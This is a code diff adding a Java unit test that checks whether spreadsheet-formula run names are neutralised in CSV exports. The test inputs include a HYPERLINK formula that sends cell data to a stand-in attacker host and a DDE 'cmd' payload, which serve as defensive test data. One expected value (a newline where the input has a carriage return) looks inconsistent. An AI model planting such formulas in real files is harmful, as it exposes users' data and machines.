@@ -178,6 +178,45 @@ class SummaryAndComparisonTest {
     }
 
     @Test
+    void csvCellsThatASpreadsheetWouldRunAsAFormulaAreNeutralised() {
+        // CSV injection (OWASP): a run named like a formula, opened in a spreadsheet, must read as text.
+        String formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";
+        Comparison comparison = ComparisonCalculator.compare(List.of(
+                analyzer.analyze(run("a", 100, 80, 0.5, 100, 100).name(formula).write()),
+                analyzer.analyze(run("b", 300, 60, 0.4, 50, 100).name("+1+cmd|' /C calc'!A0").write()),
+                analyzer.analyze(run("c", 300, 60, 0.4, 50, 100).name("-2+3").write()),
+                analyzer.analyze(run("d", 300, 60, 0.4, 50, 100).name("@SUM(1)").write()),
+                analyzer.analyze(run("e", 300, 60, 0.4, 50, 100).name("\t=1").write()),
+                analyzer.analyze(run("f", 300, 60, 0.4, 50, 100).name("\r=1").write())));
+
+        List<String> names = readColumn(AnalyticsCsv.comparison(comparison), "name");
+
+        assertThat(names).containsExactly("'" + formula, "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)", "'\t=1",
+                "'\n=1");
+        assertThat(readColumn(AnalyticsCsv.flattened(analyzer.analyze(run("g", 100, 80, 0.5, 100).name(formula)
+                .write())), "value")).contains("'" + formula).doesNotContain(formula);
+        assertThat(AnalyticsCsv.flattened(analyzer.analyze(run("h", 100, 80, -0.5, 100).write())).lines())
+                .as("numbers stay numbers, negative ones too").contains("losses.final,-0.5");
+    }
+
+    private static List<String> readColumn(final String csv, final String column) {
+        try (com.fasterxml.jackson.databind.MappingIterator<java.util.Map<String, String>> rows =
+                     new com.fasterxml.jackson.dataformat.csv.CsvMapper()
+                             .readerFor(java.util.Map.class)
+                             .with(com.fasterxml.jackson.dataformat.csv.CsvSchema.emptySchema().withHeader())
+                             .readValues(csv)) {
+            List<String> values = new ArrayList<>();
+            while (rows.hasNext()) {
+                values.add(rows.next().get(column));
+            }
+            return values;
+        }
+        catch (IOException e) {
+            throw new java.io.UncheckedIOException(e);
+        }
+    }
+
+    @Test
     void flattensRunAnalyticsToKeyValueCsv() {
         RunAnalytics analytics = analyzer.analyze(run("a", 100, 80, 0.5, 100, 100).write());
 
